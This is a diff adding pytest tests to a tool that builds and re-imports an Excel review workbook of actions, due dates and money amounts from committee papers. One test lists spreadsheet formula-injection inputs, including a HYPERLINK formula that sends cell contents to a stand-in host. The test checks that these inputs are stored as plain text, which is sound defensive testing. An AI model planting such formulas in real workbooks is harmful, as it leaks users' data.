@@ -95,7 +95,7 @@ def test_answer_normalisers():
     assert normalise_correct(" Y ") == "yes" and normalise_correct("wrong") == "no"
     assert normalise_correct("") == ""
     assert normalise_due("31/03/2022") == "2022-03-31" and normalise_due("2022-03-31") == "2022-03-31"
-    assert normalise_due("end of March") == "end of March"
+    assert normalise_due("end of March") == ""          # no year: not a date; import keeps it as a note
 
 
 # ---------------------------------------------------------------- import and re-runs
@@ -298,3 +298,151 @@ def test_money_review_follows_its_sentence_when_a_converter_change_moves_every_o
     a = frames["amounts"].set_index("text")
     assert a.loc["£30.4m", "review"] == "wrong" and a.loc["£23.3m", "review"] == ""
     assert frames["reviews"]["match"].tolist() == ["text"]
+
+
+# ---------------------------------------------------------------- hostile cells, numbers, validation
+def test_text_that_would_start_a_formula_is_stored_as_text(tmp_path):
+    """An action written `=HYPERLINK(...)` in a paper must not become a live link in the workbook."""
+    frames = apply_reviews(add_tracking(corpus_frames(), as_of=AS_OF), tmp_path / STORE_NAME)
+    tracks = frames["action_tracks"].copy()
+    hostile = ['=HYPERLINK("http://example.invalid/?d="&C2&D2,"Clerk to report back")', "+44 1223 000000",
+               "-1+2", "@SUM(A1:A9)", "\tleading tab", "\rleading return"]
+    import pandas as pd
+
+    template = tracks[tracks["state"] != "closed"].iloc[[0]]
+    copies = []
+    for i, text in enumerate(hostile):
+        row = template.copy()
+        row["track_id"], row["text"], row["owner"] = f"hostile{i}", text, "=1+1"
+        copies.append(row)
+    frames["action_tracks"] = pd.concat([tracks, *copies], ignore_index=True)
+    write_workbook(frames, tmp_path / "review.xlsx")
+    ws = load_workbook(tmp_path / "review.xlsx")["Open actions"]
+    header = [c.value for c in ws[1]]
+    cells = {ws.cell(row=r, column=header.index("action") + 1).value: ws.cell(row=r, column=header.index("action") + 1)
+             for r in range(2, ws.max_row + 1)}
+    written = hostile
+    for text in written:
+        assert text in cells, text
+        assert cells[text].data_type == "s"
+    owners = [ws.cell(row=r, column=header.index("owner") + 1) for r in range(2, ws.max_row + 1)]
+    assert [o.data_type for o in owners if o.value == "=1+1"] == ["s"] * len(written)
+    # and the file itself holds no formula element
+    import zipfile
+    with zipfile.ZipFile(tmp_path / "review.xlsx") as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_money_values_are_number_cells(tmp_path):
+    from extractors.records import Amount, Document, Page
+    from flows.tables import build_frames
+
+    text = "The scheme costs £23.3m, with a grant of £1,250.50 a month and a fee of £0.99 per visit.\n"
+    amounts = [Amount(text=shown, char_start=text.index(shown), char_end=text.index(shown) + len(shown),
+                      doc_id="budget", page=1, value_gbp=value, amount_id=stable_id("amounts", shown))
+               for shown, value in (("£23.3m", "23300000"), ("£1,250.50", "1250.50"), ("£0.99", "0.99"))]
+    run_once(tmp_path, build_frames({"documents": [Document(doc_id="budget", source_path="papers/budget.pdf")],
+                                     "pages": [Page(doc_id="budget", page=1, char_start=0, char_end=len(text),
+                                                    text=text)],
+                                     "amounts": amounts}))
+    ws = load_workbook(tmp_path / "review.xlsx")["Money"]
+    header = [c.value for c in ws[1]]
+    values = [ws.cell(row=r, column=header.index("value (£)") + 1) for r in range(2, ws.max_row + 1)]
+    assert values and all(c.data_type == "n" and isinstance(c.value, (int, float)) for c in values if c.value is not None)
+    amounts = {ws.cell(row=r, column=header.index("amount") + 1).value: c.value for r, c in enumerate(values, start=2)}
+    assert amounts == {"£23.3m": 23_300_000, "£1,250.50": 1250.5, "£0.99": 0.99}
+    assert values[0].number_format.startswith("£")
+
+
+def test_parse_due_uses_the_extractors_date_reading():
+    from datetime import date, datetime
+
+    from flows.review import parse_due
+
+    assert parse_due("31/03/2022") == "2022-03-31" and parse_due("Thursday 31 March 2022") == "2022-03-31"
+    assert parse_due("by 30 June 2022") == "2022-06-30" and parse_due("June 2022") == "2022-06-30"
+    assert parse_due(datetime(2022, 3, 31, 0, 0)) == "2022-03-31" and parse_due(date(2022, 3, 31)) == "2022-03-31"
+    for unreadable in ("next Tuesday-ish", "31/02/2026", "end of March", "2022/23", "1 April 2022 or 1 May 2022", ""):
+        assert parse_due(unreadable) is None, unreadable
+
+
+def test_import_keeps_an_unreadable_due_date_as_a_note_and_reports_it(tmp_path):
+    from flows.review import import_review
+
+    run_once(tmp_path)
+    fill(tmp_path / "review.xlsx", "Open actions", "action", DENTAL,
+         {"corrected due date": "next Tuesday-ish", "note": "asked the ICB"})
+    written, store, problems = import_review(tmp_path / "review.xlsx")
+    assert written == 1 and len(problems) == 1 and "next Tuesday-ish" in problems[0]
+    stored = load_reviews(store).iloc[0]
+    assert stored.due_date == "" and stored.note == "asked the ICB; due date as typed: next Tuesday-ish"
+    fill(tmp_path / "review.xlsx", "Open actions", "action", DENTAL, {"corrected due date": "31/02/2026"})
+    assert load_reviews(store).iloc[0].due_date == ""
+    written, _, problems = import_review(tmp_path / "review.xlsx")
+    assert "31/02/2026" in problems[0] and load_reviews(store).iloc[0].due_date == ""
+    frames = run_once(tmp_path)
+    t = frames["action_tracks"]
+    assert t[t["text"].str.startswith(DENTAL)].iloc[0].due_date == "2022-01-31"     # the extracted one stays
+
+
+def test_import_refuses_a_sheet_without_its_header_or_a_sheet_it_did_not_write(tmp_path):
+    from flows.review import ReviewImportError, import_review
+
+    run_once(tmp_path)
+    book_path = tmp_path / "review.xlsx"
+    fill(book_path, "Decisions", "recommendation", "AGREE the Capital", {"correct?": "no"})
+    book = load_workbook(book_path)
+    book["Decisions"].delete_rows(1)
+    book.save(tmp_path / "headless.xlsx")
+    with pytest.raises(ReviewImportError, match="header"):
+        import_review(tmp_path / "headless.xlsx")
+    book = load_workbook(book_path)
+    book.create_sheet("My notes")
+    book.save(tmp_path / "extra.xlsx")
+    with pytest.raises(ReviewImportError, match="My notes"):
+        import_review(tmp_path / "extra.xlsx")
+    assert not (tmp_path / STORE_NAME).exists()          # nothing stored from a refused workbook
+
+
+def test_import_reports_conflicting_duplicate_rows(tmp_path):
+    from flows.review import import_review
+
+    run_once(tmp_path)
+    book_path = tmp_path / "review.xlsx"
+    book = load_workbook(book_path)
+    ws = book["Decisions"]
+    header = [c.value for c in ws[1]]
+    first = [c.value for c in ws[2]]
+    first[header.index("correct?")] = "yes"
+    ws.cell(row=2, column=header.index("correct?") + 1, value="yes")
+    conflicting = list(first)
+    conflicting[header.index("correct?")] = "no"
+    ws.append(conflicting)
+    ws.append(list(conflicting))                         # an agreeing copy is not another conflict
+    book.save(book_path)
+    written, store, problems = import_review(book_path)
+    assert len(problems) == 1 and "differently" in problems[0] and first[header.index("row_id")] in problems[0]
+    assert "row 7" in problems[0] and "rows 2 and 7" in problems[0]
+    assert written == 1 and load_reviews(store).iloc[0].correct == "no"      # the lowest row wins, as reported
+
+
+def test_cli_review_import_prints_the_warnings(tmp_path):
+    run_once(tmp_path)
+    fill(tmp_path / "review.xlsx", "Open actions", "action", DENTAL, {"corrected due date": "when convenient"})
+    result = CliRunner().invoke(cli, ["review", "import", str(tmp_path / "review.xlsx")])
+    assert result.exit_code == 0
+    assert "warning:" in result.output and "when convenient" in result.output     # click 8.2: stderr included
+    assert "1 reviews stored" in result.output and "1 warnings above" in result.output
+
+
+def test_an_untouched_workbook_is_not_read_again(tmp_path, monkeypatch):
+    """A run imports the last workbook every time; the one it wrote itself holds only stored answers."""
+    import flows.review as review
+
+    run_once(tmp_path)
+    calls = []
+    monkeypatch.setattr(review, "read_workbook_checked", lambda p: calls.append(p) or review.ImportResult([], []))
+    assert review.import_review(tmp_path / "review.xlsx")[0] == 0 and calls == []
+    fill(tmp_path / "review.xlsx", "Decisions", "recommendation", "AGREE the Capital", {"correct?": "no"})
+    review.import_review(tmp_path / "review.xlsx")
+    assert calls == [tmp_path / "review.xlsx"]
